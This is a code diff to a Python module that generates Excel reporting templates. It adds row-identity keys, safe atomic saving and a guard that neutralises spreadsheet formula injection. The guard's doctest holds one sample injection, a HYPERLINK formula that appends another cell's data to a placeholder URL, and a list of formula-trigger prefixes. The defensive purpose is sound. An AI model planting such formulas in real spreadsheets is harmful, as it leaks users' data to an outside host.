@@ -36,6 +36,8 @@ Examples
 from __future__ import annotations
 
 import datetime as _dt
+import os
+import tempfile
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Callable
@@ -55,11 +57,12 @@ from ..core.parameter import PERIODE, urutan_periode
 __all__ = [
     "JENIS_TEMPLAT", "VERSI", "LEMBAR_META", "LEMBAR_PETUNJUK", "BARIS_JUDUL_KOLOM", "BARIS_DATA", "TIDAK_ADA",
     "KolomLembar", "Lembar", "LEMBAR", "lembar_untuk", "judul_kolom", "label_periode", "nama_berkas_bawaan",
-    "baris_lembar", "buat_templat",
+    "baris_lembar", "buat_templat", "kunci_baris", "jadikan_teks", "AWALAN_RUMUS",
 ]
 
 JENIS_TEMPLAT = "templat-realisasi-iku"
-VERSI = 1
+#: Versi 2: lembar ``_templat`` mencatat kunci dan urutan setiap baris data (identitas baris).
+VERSI = 2
 LEMBAR_META = "_templat"
 LEMBAR_PETUNJUK = "Petunjuk"
 #: Baris judul kolom setiap lembar data; baris data mulai di bawahnya.
@@ -610,7 +613,56 @@ def _lindungi(ws) -> None:
     ws.protection = SheetProtection(sheet=True, formatColumns=False, formatRows=False, selectLockedCells=False, selectUnlockedCells=False)
 
 
-def _tulis_lembar(wb: Workbook, lembar: Lembar, tahun: int, periode: str, folder: Path | None, instansi: dict) -> int:
+def kunci_baris(lembar: Lembar, nilai: dict) -> tuple[str, ...]:
+    """Identitas satu baris lembar: teks setiap kolom ``kunci`` (dicatat di ``_templat``, dicocokkan saat impor).
+
+    >>> kunci_baris(LEMBAR[0], {"pas_no": 1, "pas": "Anak", "jenis": "Balita terlantar", "bidang": "Rehsos"})
+    ('1', 'Anak', 'Balita terlantar', 'Rehsos')
+    """
+    hasil = []
+    for k in lembar.kolom:
+        if k.peran != "kunci":
+            continue
+        v = _py(nilai.get(k.id))
+        hasil.append("" if v is None else str(v).strip())
+    return tuple(hasil)
+
+
+#: Awal teks yang dapat ditafsirkan sebagai rumus oleh Excel/LibreOffice (injeksi rumus/DDE).
+AWALAN_RUMUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def jadikan_teks(ws) -> int:
+    """Pastikan tidak ada sel berumus atau teks yang dapat menjadi rumus di lembar ``ws``.
+
+    Templat proyek tidak menaruh rumus di sel mana pun (validasi data bukan
+    sel). Teks dari ``data/`` yang diawali ``=``, ``+``, ``-``, ``@``, tab atau CR
+    disimpan sebagai teks dengan awalan kutip (``quotePrefix``) sehingga
+    Excel/LibreOffice tidak pernah menjalankannya, juga setelah selnya disunting.
+    Mengembalikan jumlah sel yang diubah.
+
+    >>> from openpyxl import Workbook
+    >>> ws = Workbook().active
+    >>> ws["A1"] = '=HYPERLINK("http://x"&A2,"Data")'
+    >>> ws["A1"].data_type
+    'f'
+    >>> jadikan_teks(ws), ws["A1"].data_type, ws["A1"].value[:10], ws["A1"].quotePrefix
+    (1, 's', '=HYPERLINK', True)
+    """
+    n = 0
+    for baris in ws.iter_rows():
+        for c in baris:
+            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(AWALAN_RUMUS)):
+                teks = str(c.value)
+                c.value = None
+                c._value = teks
+                c.data_type = "s"
+                c.quotePrefix = True
+                n += 1
+    return n
+
+
+def _tulis_lembar(wb: Workbook, lembar: Lembar, tahun: int, periode: str, folder: Path | None, instansi: dict) -> list[tuple]:
     ws = wb.create_sheet(lembar.nama)
     baris = baris_lembar(lembar, tahun, periode, folder)
     kolom = lembar.kolom
@@ -649,8 +701,9 @@ def _tulis_lembar(wb: Workbook, lembar: Lembar, tahun: int, periode: str, folder
         if k.validasi:
             _validasi(ws, lembar, k, huruf[k.id], BARIS_DATA, akhir, huruf)
     ws.freeze_panes = ws.cell(BARIS_DATA, 1)
+    jadikan_teks(ws)
     _lindungi(ws)
-    return len(baris)
+    return [kunci_baris(lembar, b) for b in baris]
 
 
 _PETUNJUK_UMUM = (
@@ -724,19 +777,41 @@ def _tulis_petunjuk(ws, tahun: int, periode: str, lembar: list[Lembar], jumlah: 
     _lindungi(ws)
 
 
-def _tulis_meta(wb: Workbook, tahun: int, periode: str, lembar: list[Lembar]) -> None:
+def _tulis_meta(wb: Workbook, tahun: int, periode: str, lembar: list[Lembar], kunci: dict[str, list[tuple]]) -> None:
+    """Lembar tersembunyi ``_templat``: jenis, versi, periode, lembar, dan identitas setiap baris data.
+
+    Baris ``("baris", lembar, nomor baris Excel, kunci...)`` mencatat urutan dan
+    kunci (kolom terkunci seperti No PAS dan Jenis PPKS) setiap baris; impor
+    menolak lembar yang barisnya dihapus, disisipkan, dipindah atau kuncinya
+    diketik ulang.
+    """
     ws = wb.create_sheet(LEMBAR_META)
     isi = [("jenis", JENIS_TEMPLAT), ("versi", VERSI), ("tahun", tahun), ("periode", periode),
            ("dibuat", _dt.date.today().isoformat())]
     isi += [("lembar", l.nama, l.data) for l in lembar]
+    for l in lembar:
+        isi += [("baris", l.nama, BARIS_DATA + j, *k) for j, k in enumerate(kunci.get(l.nama, []))]
     for baris in isi:
-        ws.append(list(baris))
+        ws.append([str(v) if i >= 3 else v for i, v in enumerate(baris)])
+    jadikan_teks(ws)
     ws.sheet_state = "veryHidden"
     _lindungi(ws)
 
 
+def _periksa_keluaran(jalur: Path, timpa: bool) -> None:
+    if jalur.suffix.lower() != ".xlsx":
+        raise KesalahanParameter(f"--keluaran {str(jalur)[:200]!r}: templat hanya ditulis ke berkas berakhiran .xlsx")
+    if jalur.is_dir():
+        raise KesalahanParameter(f"--keluaran {str(jalur)[:200]!r}: jalur itu sebuah folder; beri nama berkas .xlsx")
+    if jalur.exists() and not timpa:
+        raise KesalahanParameter(f"{str(jalur)[:200]} sudah ada (mungkin isian yang belum diimpor); tidak ditimpa. "
+                                 "Pakai --keluaran dengan nama lain, atau --timpa untuk menimpanya")
+    if jalur.parent.exists() and not jalur.parent.is_dir():
+        raise KesalahanParameter(f"--keluaran {str(jalur)[:200]!r}: {jalur.parent} bukan folder")
+
+
 def buat_templat(tahun: int, periode: str | None = None, keluaran: str | Path | None = None,
-                 folder: Path | None = None) -> Path:
+                 folder: Path | None = None, timpa: bool = False) -> Path:
     """Tulis templat isian realisasi ``tahun``/``periode`` dan kembalikan jalurnya.
 
     Parameters
@@ -749,6 +824,10 @@ def buat_templat(tahun: int, periode: str | None = None, keluaran: str | Path | 
         Berkas tujuan; bawaan :func:`nama_berkas_bawaan` di folder kerja.
     folder : Path, optional
         Folder ``data/`` (bawaan :func:`analisis.core.paths.folder_data`).
+    timpa : bool
+        Berkas ``keluaran`` yang sudah ada hanya ditimpa bila ``True``; keluaran
+        harus berakhiran ``.xlsx``. Berkas ditulis ke berkas sementara lalu
+        diganti atomik.
 
     Examples
     --------
@@ -759,18 +838,31 @@ def buat_templat(tahun: int, periode: str | None = None, keluaran: str | Path | 
     (['Petunjuk', 'PPKS per PAS', 'Realisasi IKU-IKK', 'SAKIP', '_templat'], False, True)
     """
     tahun, periode = _periksa_periode(tahun, periode)
+    jalur = Path(keluaran) if keluaran else Path.cwd() / nama_berkas_bawaan(tahun, periode)
+    _periksa_keluaran(jalur, timpa)
     lembar = lembar_untuk(periode)
     inst = data.instansi(folder)
     wb = Workbook()
     petunjuk = wb.active
     petunjuk.title = LEMBAR_PETUNJUK
-    jumlah = {l.nama: _tulis_lembar(wb, l, tahun, periode, folder, inst) for l in lembar}
-    _tulis_petunjuk(petunjuk, tahun, periode, lembar, jumlah, inst)
-    _tulis_meta(wb, tahun, periode, lembar)
+    kunci = {l.nama: _tulis_lembar(wb, l, tahun, periode, folder, inst) for l in lembar}
+    _tulis_petunjuk(petunjuk, tahun, periode, lembar, {n: len(k) for n, k in kunci.items()}, inst)
+    jadikan_teks(petunjuk)
+    _tulis_meta(wb, tahun, periode, lembar, kunci)
     wb.active = 0
     # Struktur buku kerja dikunci (tanpa kata sandi): lembar tidak dapat dihapus atau diganti nama.
     wb.security = WorkbookProtection(lockStructure=True)
-    jalur = Path(keluaran) if keluaran else Path.cwd() / nama_berkas_bawaan(tahun, periode)
     jalur.parent.mkdir(parents=True, exist_ok=True)
-    wb.save(jalur)
+    fd, sementara = tempfile.mkstemp(dir=jalur.parent, prefix=f".{jalur.name}.", suffix=".tmp")
+    os.close(fd)
+    try:
+        wb.save(sementara)
+        umask = os.umask(0o022)
+        os.umask(umask)
+        os.chmod(sementara, 0o666 & ~umask)
+        if jalur.exists() and not timpa:  # dibuat orang lain sementara itu
+            raise KesalahanParameter(f"{jalur} sudah ada; tidak ditimpa (pakai --timpa)")
+        os.replace(sementara, jalur)
+    finally:
+        Path(sementara).unlink(missing_ok=True)
     return jalur
